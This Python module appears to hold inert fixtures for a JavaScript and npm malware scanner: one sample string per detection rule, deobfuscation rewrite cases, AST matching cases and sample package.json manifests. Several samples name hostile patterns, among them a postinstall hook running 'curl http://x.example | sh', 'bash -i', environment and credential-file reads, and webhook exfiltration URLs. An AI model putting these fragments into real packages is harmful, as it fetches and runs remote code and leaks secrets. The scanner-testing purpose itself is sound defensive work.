"""Inert sample texts: one for each built-in rule, and a few manifests. They are data for queries and tests, never run."""

from __future__ import annotations

RULES = {
    "OBF-001": "eval(code)",
    "OBF-002": "new Function(body)",
    "OBF-003": r"x = '\x01\x02\x03\x04'",
    "OBF-004": "x = '\\u0061\\u0062\\u0063'",
    "OBF-005": "y = atob(data)",
    "OBF-006": "k = 'aB3dE6gH9jK2mN5pQ8sT1vW4yZ7cF0xLrUoIi!@#%^&*()'",
    "OBF-007": "a" * 1001,
    "SC-001": "home = process.env.HOME",
    "SC-001b": "home = process['env']",
    "SC-002": "require('child_process')",
    "SC-002b": "import cp from 'child_process'",
    "SC-003": "fetch('/x', { body: JSON.stringify(process.env) })",
    "SC-004": "require(atob(name))",
    "SC-004b": "import(name)",
    "SC-006": "fetch(atob('aHR0cHM6Ly9leGFtcGxlLm9yZw=='))",
    "SC-007": "fs.readFileSync(path)",
    "SC-008": "vm.runInNewContext(src)",
    "SC-009": "WebAssembly.instantiate(bytes)",
    "SC-010": "o.__proto__ = p",
    "SC-011": "p = home + '/.npmrc'",
    "SC-012": "dns.lookup(secret + '.example.org')",
    "SC-013": "crypto.createDecipheriv(a, k, iv)",
    "SC-014": "window['eval'](x)",
    "SC-015": "execSync(atob(cmd))",
    "SC-015b": "child_process.exec(cmd)",
    "SC-016": "net.connect(80, host)",
    "SC-017": "process.mainModule.require('fs')",
    "SC-018": "fetch('/h?' + os.hostname())",
    "SC-019": "process.binding('fs')",
    "SC-020": "fs.writeFileSync('/home/u/.bashrc', t)",
    "SC-021": "exec('curl https://example.org | sh')",
    "SC-022": "require('child_process').exec",
    "OBF-008": "[Function, 1]",
    "OBF-009": '["a", "b", "c", "d", "e", "f", "g"]',
    "OBF-010": "o[k](a)(eval)",
    "OBF-011": "eval(unescape(x))",
    "OBF-012": "new Function(atob(x))",
    "OBF-013": "new Function('return this')",
    "OBF-014": "var _0x1a2b = _0x3c4d",
    "SC-010b": "o['__proto__']['x'] = 1",
    "SC-023": "s = 'bash -i'",
    "SC-024": "d = createDecipher(a, k); eval(d)",
    "SC-025": "WebAssembly.compile(Buffer.from(x))",
    "SC-026": "u = 'webhook.site/abc'",
    "SC-027": "net.connect(4444, '10.0.0.1'); spawn('x')",
    "SC-028": "p = 'Login Data'",
    "SC-029": "f.constructor.constructor('x')",
    "GD-001": "clipboard.readText().then(t => axios(t))",
    "GD-002": "require('iohook')",
    "GD-003": "run('xmrig')",
    "GD-004": "writeFileSync('a/package.json', t); run('npm publish')",
    "GD-005": "аdmin_x = 'aа'",
    "GD-006": "{ detached: true, stdio: 'ignore' }",
    "GD-007": "console.log = function () {}; s = fromCharCode",
    "GD-008": "c = '-WindowStyle Hidden'",
    "GD-009": "exec('certutil -f')",
    "GD-010": "fetch('/n', os.networkInterfaces())",
    "GD-011": "p = '/etc/init.d/x'",
    "OBF-015": "eval(build(x))",
    "OBF-016": "f = eval;",
    "OBF-017": "require(['fs'][0])",
    "SC-004c": "require(`./${name}`)",
    "SC-030": "get('dns.google/resolve', token)",
    "SC-031": "for (i of a) { s += String.fromCharCode(i) } require(s)",
    "OBF-018": "unescape('%61%62%63%64%65%66%67%68')",
    "OBF-019": "String.fromCharCode(s.charCodeAt(i) ^ k)",
    "OBF-020": "String.fromCodePoint(97, 98)",
    "OBF-021": "[]" * 31,
    "SC-032": "require('node:vm')",
    "SC-033": "'api.telegram.org/bot12345:AAAAAAAAAAAAAAAAAAAAAA'",
    "SC-034": "'discord.com/api/webhooks/12345678/AAAAAAAAAAAAAAAAAAAAAA'",
    "SC-035": "get('http://10.1.2.3/x', password)",
    "SC-036": "execSync('crontab x')",
    "SC-037": "p = os.tmpdir(); execSync(p)",
    "SC-038": "'hooks.slack.com/services/TAAAAAAA/BAAAAAAA/aaaaaaaaaaaaaaaa'",
    "SC-039": "h = 'Content-Disposition: form-data'",
    "SC-040": "require('https'); x = process.env)",
    "SC-041": "get('169.254.169.254')",
    "SC-042": "Module._load = f",
    "SC-043": "import('data:text/javascript,1')",
    "SC-044": "new Worker(src, { eval: true })",
    "SC-045": "require('worker_threads')",
    "SC-046": "writeFile('.git/hooks/pre-commit', t)",
    "SC-047": "fetch('https://pastebin.com/raw/x')",
    "SC-048": "w.signTransaction(t); fetch('/s')",
    "SC-049": "fetch('/m', mnemonic)",
    "OBF-022": "const e = eval",
    "OBF-023": "Reflect.apply(eval, null, a)",
    "OBF-024": "eval.call(null, a)",
    "OBF-025": "setTimeout(eval, 10)",
    "OBF-026": "new Function(...parts)",
    "OBF-027": "String.fromCharCode(...codes)",
    "SC-050": "module.require(x)",
    "SC-051": "vm.compileFunction(src)",
    "SC-052": "dns.promises.resolve(token)",
    "SC-053": "tls.connect(process.env.P)",
    "SC-054": "spawn('x', { shell: true })",
    "SC-055": "Module._compile = f",
    "SC-056": "new WebAssembly.Module(b)",
    "SC-057": "const { A } = process.env",
    "SC-058": "require(name)",
    "EV-001": "debugger;",
}

#: (pass, text, what it becomes, changes): written by hand, for the rewriting query and its SQL.
REWRITES = [
    ("string_decode", r'let a = "\x6f\x6b";', 'let a = "ok";', 1),
    ("string_decode", r"let a = '\x27\x5c\x01\x6f';", r"let a = '\x27\x5c\x01o';", 1),
    ("string_decode", "'\\u0068\\u0069'", "'hi'", 1),
    ("string_decode", r'"\u{68}\u{69}"', '"hi"', 2),
    ("string_decode", "[104,105,33].map(c => String.fromCharCode(c)).join('')", '"hi!"', 1),
    ("string_decode", "[104,105,33].map(function(c){ return String.fromCharCode(c); }).join('')", '"hi!"', 1),
    ("string_decode", "[104,300,33].map(String.fromCharCode).join('')", "[104,300,33].map(String.fromCharCode).join('')", 0),
    ("string_decode", "window.atob('aGkgIg==')", r'"hi \""', 1),
    ("string_decode", "String.fromCharCode(104, 105)", '"hi"', 1),
    ("string_decode", "String.fromCharCode.apply(null, [104,105])", '"hi"', 1),
    ("string_decode", "String.fromCharCode(...[104])", '"h"', 1),
    ("string_decode", "Buffer.from('aGk=', 'base64').toString()", '"hi"', 1),
    ("string_decode", "'cba'.split('').reverse().join('')", "'abc'", 1),
    ("string_decode", 'x = "a".concat("b", "c",)', 'x = "abc"', 1),
    ("string_decode", '"a".concat("b").concat("c")', '"abc"', 2),
    ("constant_fold", '"a" + "b" + "c"', '"abc"', 2),
    ("constant_fold", "\"a\" + 'b'", '"ab"', 1),
    ("constant_fold", "\"a\" + 'say \"b\"'", "\"a\" + 'say \"b\"'", 0),
    ("constant_fold", "let p = (6 * 7);", "let p = 42;", 1),
    ("constant_fold", "(4 - (1 + 2))", "1", 2),
    ("constant_fold", "(7 / 0) f(1+2)", "(7 / 0) f3", 1),
    ("constant_fold", "0xff + 0o17 + 0b11", "255 + 15 + 3", 3),
    ("constant_fold", "0xfffffffffffffffff", "0xfffffffffffffffff", 0),
    ("constant_fold", 'parseInt("ff", 16) + parseInt("z", 99) + parseInt("9", 8)', '255 + parseInt("z", 99) + parseInt("9", 8)', 1),
    ("constant_fold", "typeof undefined === 'undefined'; void 0", "true; undefined", 2),
    ("constant_fold", "!![] ![] !!1 !!0 !0 !1 a!0", "true false true false true false a!0", 6),
    ("eval_unwrap", 'eval("go()")', "/* unwrapped:eval */ go()", 1),
    ("eval_unwrap", "new Function('go()')()", "/* unwrapped:Function */ go()", 1),
    ("eval_unwrap", "setTimeout('go()', 5); setInterval(`a`, 1)", "setTimeout(function(){ /* unwrapped:timeout */ go() }, 5); setInterval(function(){ /* unwrapped:interval */ a }, 1)", 2),
    ("control_flow", "if (false) { a(); } else { b(); }", "b();", 1),
    ("control_flow", "x; if (0) { '}' /* } */ } y", "x;  y", 1),
    ("control_flow", "if (true) { `${ {a: '}'} }` } else { b }", "`${ {a: '}'} }`", 1),
    ("control_flow", "if (false) { unbalanced", "if (false) { unbalanced", 0),
    ("control_flow", 'x = true ? "a:b" : c; y = false ? 1 : d', 'x = "a:b"; y = d', 2),
    ("control_flow", "null || fallback; (0, a.b)(c)", "fallback; a.b(c)", 2),
    ("constant_fold", "Number(0b11)", "Number(3)", 1),
    ("constant_fold", "typeof undefined == 'undefined'", "true", 1),
    ("constant_fold", "+[]", "+0", 1),
    ("control_flow", "if (!1) { a() } b()", " b()", 1),
    ("control_flow", "if (1) { a() } else { b() }", "a()", 1),
    ("control_flow", "'' || x; (undefined, f.g)(1)", "x; f.g(1)", 2),
    ("pretty", "if(a){b}else{c}", "if(a){\n  b\n} else{\n  c\n}", 1),
]

#: (name, kind of rule, pattern, text, places found), written by hand.
SYNTAX = [
    ("AST-01a", "call_expression", "eval", "}}} eval(x)", [(1, 5)]),
    ("AST-01b", "call_expression", "eval", "function ( { eval(x)", [(1, 14)]),
    ("AST-02a", "call_expression", "eval", "eval(x); a.eval(y); new eval(); f(eval); 'eval(z)'; `${eval(1)}`; /eval(2)/", [(1, 1), (1, 56)]),
    ("AST-02b", "call_expression", "f", "a = b / f(1) / c; return /f(2)/.test(x)", [(1, 9)]),
    ("AST-02c", "call_expression", "eval", "function eval(a) {} class A { eval(b) { return 1 } static eval(c) {} }", []),
    ("AST-03a", "ast_node_type", "new_expression:Function", "new Function(); new Other(); x = new Function", [(1, 1), (1, 34)]),
    ("AST-03b", "ast_node_type", "new_expression", "let a = 1\nnew Other()", [(2, 1)]),
    ("AST-04a", "member_expression", "process.env", "process.env.A; process?.env; x.process.env; process.environment", [(1, 1), (1, 1)]),
    ("AST-04b", "member_expression", "process.env", "a = process.env", [(1, 5)]),
    ("AST-05a", "subscript_expression", "process.env", "process['env']; process[env]; process['x']", [(1, 1), (1, 17)]),
    ("AST-06a", "call_expression", "eval", "[" * 3000 + "eval(x)" + "]" * 3000, [(1, 3001)]),
]

MANIFESTS = {
    "a/package.json": '{"name": "a", "scripts": {"postinstall": "curl http://x.example | sh", "install": 3, "prepare": "node-gyp rebuild"}, "bin": {"a": "x.js", "b": "eval.js"}, "dependencies": {"loda-sh": "1", "expres": "2", "@corp/react": "1", "react": "1", "@corp/axios": "2"}, "bundledDependencies": ["chalk", "momnet"]}',
    "b/package.json": '{"scripts": {"preinstall": "node -e 1", "install": "echo aGk= | base64 -d", "prepare": "bash -c x", "preuninstall": "see https://x.example"}, "devDependencies": {"left": "1", "@types/react": "1"}}',
    "c/package.json": '{"bin": "wget.sh", "optionalDependencies": {"ab": "1", "koaa": "1", "react-domm": "3"}}',
    "d/package.json": '{"scripts": {"postinstall": "node-gyp rebuild"}}',
}
